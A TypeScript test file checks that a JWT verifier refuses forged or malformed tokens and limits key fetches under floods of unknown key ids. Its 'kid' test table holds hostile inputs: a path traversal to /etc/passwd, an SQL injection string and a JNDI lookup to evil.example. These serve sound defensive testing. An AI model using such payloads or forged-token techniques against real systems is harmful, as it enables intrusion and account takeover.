import { inspect } from 'node:util';

import { keyPair } from 'trpc-jwt-auth';
import { memorySessions } from 'trpc-jwt-auth/stores/memory';
import { testAuth } from 'trpc-jwt-auth/testing';
import { afterAll, beforeEach, describe, expect, it } from 'vitest';

import { goodClaims } from './forged-tokens.js';
import { everyReport, newPair, publicJwk, signed, startIssuer, strangerToken, verifierOf } from './issuer.js';
import { NOW } from './target.js';

const issuer = await startIssuer();
const elsewhere = await startIssuer();
const ec = newPair();
const evil = newPair();
const good = signed('ES256', ec, { kid: 'ec' }, { ...goodClaims, exp: NOW + 3600 });

beforeEach(() => {
  issuer.requests.length = 0;
  issuer.publish(publicJwk(ec, { kid: 'ec' }));
  elsewhere.publish(publicJwk(evil, { kid: 'evil' }));
});
afterAll(() => {
  expect(elsewhere.requests).toEqual([]);
  expect(inspect(everyReport, { depth: 9 })).not.toMatch(/eyJ[\w-]+\./);
});

describe('a token truly signed by the issuer', () => {
  const audience = ['reports', 'files'];
  const claims = { ...goodClaims, iss: 'https://issuer.example', aud: 'reports' };
  const refused: readonly (readonly [string, object, object, string])[] = [
    ['a refresh token', { typ: 'refresh+jwt' }, {}, 'TOKEN_REJECTED'],
    ['an ID token', { typ: 'logout+jwt' }, {}, 'TOKEN_REJECTED'],
    ['without exp', {}, { exp: undefined }, 'TOKEN_REJECTED'],
    ['with exp as text', {}, { exp: String(NOW + 300) }, 'TOKEN_REJECTED'],
    ['expired', {}, { exp: NOW - 1 }, 'TOKEN_EXPIRED'],
    ['not good yet', {}, { nbf: NOW + 1 }, 'TOKEN_REJECTED'],
    ['of another issuer', {}, { iss: 'https://issuer.example.evil' }, 'TOKEN_REJECTED'],
    ['of two issuers', {}, { iss: ['https://issuer.example'] }, 'TOKEN_REJECTED'],
    ['of no issuer', {}, { iss: undefined }, 'TOKEN_REJECTED'],
    ['for another service', {}, { aud: 'report' }, 'TOKEN_REJECTED'],
    ['for a service and a number', {}, { aud: ['reports', 7] }, 'TOKEN_REJECTED'],
    ['for nobody', {}, { aud: [] }, 'TOKEN_REJECTED'],
    ['for anybody', {}, { aud: undefined }, 'TOKEN_REJECTED'],
    ['of no user', {}, { username: undefined }, 'TOKEN_PAYLOAD_INVALID'],
    ['of a user without id', {}, { user_id: undefined }, 'TOKEN_PAYLOAD_INVALID'],
    ['of a user whose id is a list', {}, { user_id: [1] }, 'TOKEN_PAYLOAD_INVALID'],
    ['whose header asks for processing', { crit: ['exp'] }, {}, 'TOKEN_REJECTED'],
  ];
  const watched = async () => {
    issuer.publish(publicJwk(ec, { kid: 'ec' }));
    return verifierOf(issuer, { issuer: claims.iss, audience });
  };

  it('is taken where it is for this service', async () => {
    const { judge } = await watched();
    for (const aud of ['reports', 'files', ['x', 'files']]) expect(await judge(signed('ES256', ec, { kid: 'ec' }, { ...claims, aud }))).toBe('accepted');
  });

  it.each(refused)('%s: refused', async (_what, header, changes, code) => {
    const { judge } = await watched();
    expect(await judge(signed('ES256', ec, { kid: 'ec', ...header }, { ...claims, ...changes }))).toBe(code);
  });

  it('for somebody is refused by a service without a name', async () => {
    issuer.publish(publicJwk(ec));
    const { judge } = verifierOf(issuer);
    expect(await judge(signed('ES256', ec, {}, claims))).toBe('TOKEN_REJECTED');
    expect(await judge(signed('ES256', ec))).toBe('accepted');
  });

  it('expires, though it was verified before', async () => {
    issuer.publish(publicJwk(ec));
    const { judge, clock } = verifierOf(issuer);
    const token = signed('ES256', ec);
    expect(await judge(token)).toBe('accepted');
    clock.set(new Date((goodClaims.exp + 1) * 1000));
    expect(await judge(token)).toBe('TOKEN_EXPIRED');
  });

  it.each(['none', 'None', 'NONE', '', 'es256', 'ES256 ', 'HS256', 'RS256', 'ES256K', 'Ed25519', null, 7, ['ES256']])('under the algorithm %j, with its signature or without: refused', async (alg) => {
    const { judge } = await watched();
    const token = signed('ES256', ec, { kid: 'ec', alg }, claims);
    for (const forged of [token, token.replace(/[^.]*$/, '')]) expect(await judge(forged)).toBe('TOKEN_REJECTED');
  });

  it('the refresh token of a session of our own: refused', async () => {
    const keys = keyPair({ algorithm: 'ES256', privateKey: ec.privateKey.export({ format: 'jwk' }) });
    const auth = testAuth({ keys, password: 'engine', sessions: { store: memorySessions() }, clock: () => NOW * 1000 });
    const { token, refresh } = await auth.serializers.obtain.validate({ username: 'ada', password: 'engine' });
    issuer.say(JSON.stringify(await auth.jwks()));
    const { judge } = verifierOf(issuer);
    expect([await judge(token), await judge(refresh?.token ?? '')]).toEqual(['accepted', 'TOKEN_REJECTED']);
  });
});

describe('a token cannot make the verifier ask', () => {
  it.each<readonly [string, unknown]>([
    ['a path', '../../../../etc/passwd'],
    ['an SQL', "' OR 1=1 --"],
    ['a URL', elsewhere.url],
    ['a template', '${jndi:ldap://evil.example/x}'],
    ['__proto__', '__proto__'],
    ['constructor', 'constructor'],
    ['nothing', ''],
    ['its own name and a zero byte', 'ec\u0000'],
    ['its own name in another case', 'EC'],
    ['6 kB', 'x'.repeat(4000)],
    ['more than a token may have', 'x'.repeat(8192)],
    ['a number', 7],
    ['null', null],
    ['a list', ['ec']],
    ['an object', { toString: 'ec' }],
  ])('more than once, by a kid that is %s', async (_what, kid) => {
    const { judge } = verifierOf(issuer);
    expect(await judge(good)).toBe('accepted');
    for (let call = 0; call < 5; call += 1) expect(await judge(signed('ES256', ec, { kid }))).toBe(typeof kid === 'string' ? 'TOKEN_UNDECODABLE' : 'TOKEN_REJECTED');
    expect(issuer.requests.length).toBeLessThanOrEqual(2);
    expect(new Set(issuer.requests)).toEqual(new Set(['/.well-known/jwks.json']));
  });

  it.each<readonly [string, unknown]>([
    ['jku', elsewhere.url],
    ['x5u', elsewhere.url],
    ['jwk', publicJwk(evil)],
    ['x5c', ['MII']],
  ])('by its header %s, nor trust what stands there', async (name, value) => {
    const { judge } = verifierOf(issuer);
    expect(await judge(good)).toBe('accepted');
    for (const kid of ['ec', 'evil', undefined]) expect(await judge(signed('ES256', evil, { [name]: value, kid }))).toBe('TOKEN_REJECTED');
    expect(await judge(signed('ES256', ec, { [name]: value, kid: 'other' }))).toBe('TOKEN_REJECTED');
    expect([issuer.requests.length, elsewhere.requests]).toEqual([1, []]);
  });

  it('by 1000 names that no key has: once in a cooldown, whatever else they are', async () => {
    const { judge, clock } = verifierOf(issuer, { cooldownSeconds: 30 });
    const spray = Array.from({ length: 1000 }, (_, index) => strangerToken(`forged-${index}`, ['ES256', 'RS512', 'HS256', 'none', 'nonsense'][index % 5]));
    const codes = await Promise.all(spray.map(judge));
    expect(codes.filter((code) => !/^TOKEN_(REJECTED|UNDECODABLE)$/.test(code))).toEqual([]);
    // One for the keys, one for a name that is not among them.
    expect(issuer.requests).toHaveLength(2);
    for (const token of spray.slice(0, 50)) await judge(token);
    clock.advance({ seconds: 29 });
    await Promise.all(spray.map(judge));
    expect(issuer.requests).toHaveLength(2);
    clock.advance({ seconds: 1 });
    await Promise.all(spray.map(judge));
    expect(issuer.requests).toHaveLength(3);
    expect(await judge(good)).toBe('accepted');
  });

  it('while the issuer is down, more than once in a second', async () => {
    issuer.say('', 503);
    const { judge, clock } = verifierOf(issuer);
    for (const passed of [0, 0, 1, 0]) {
      clock.advance({ seconds: passed });
      expect(new Set(await Promise.all([...Array.from({ length: 100 }, (_, index) => strangerToken(`forged-${index}`)), good].map(judge)))).toEqual(new Set(['STORE_UNAVAILABLE']));
    }
    expect(issuer.requests).toHaveLength(2);
  });

  it('while the keys there are cannot be loaded again, more than once in a second', async () => {
    const { judge, clock, complaints } = verifierOf(issuer);
    expect(await judge(good)).toBe('accepted');
    issuer.say('', 503);
    clock.advance({ seconds: 300 });
    expect(await judge(good)).toBe('accepted');
    await expect.poll(() => complaints().length, { interval: 1 }).toBe(1);
    expect(new Set(await Promise.all(Array.from({ length: 100 }, (_, index) => judge(strangerToken(`forged-${index}`)))))).toEqual(new Set(['TOKEN_UNDECODABLE']));
    expect(issuer.requests).toHaveLength(2);
  });

  it('at its first request, more than once for all', async () => {
    const { judge } = verifierOf(issuer);
    const tokens = Array.from({ length: 100 }, (_, index) => signed('ES256', ec, { kid: 'ec' }, { ...goodClaims, jti: String(index) }));
    expect(new Set(await Promise.all(tokens.map(judge)))).toEqual(new Set(['accepted']));
    expect(issuer.requests).toHaveLength(1);
  });
});
